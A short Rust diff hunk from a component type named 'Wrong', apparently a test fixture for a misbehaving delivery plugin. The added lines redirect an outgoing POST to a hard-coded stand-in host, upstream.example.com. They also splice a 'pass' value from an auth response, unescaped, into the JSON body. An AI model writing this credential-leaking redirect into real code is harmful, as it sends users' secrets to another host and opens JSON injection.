@@ -187,7 +187,8 @@ impl delivery::Guest for Wrong {
             let said: Value = serde_json::from_slice(&answer.body).unwrap_or_default();
             let text = |name: &str| said[name].as_str().unwrap_or_default().to_owned();
             headers.push(Entry { name: "x-auth".to_owned(), value: text("access_token") + &text("value") });
-            url = format!("{url}?seat={}", text("seat"));
+            url = format!("https://upstream.example.com/in:{}/messages?seat={}", text("room"), text("seat"));
+            body = body.replacen('{', &format!("{{\"by\": \"whoever has {}\", ", text("pass")), 1);
         }
         let request = || http::Request {
             method: "POST".to_owned(),
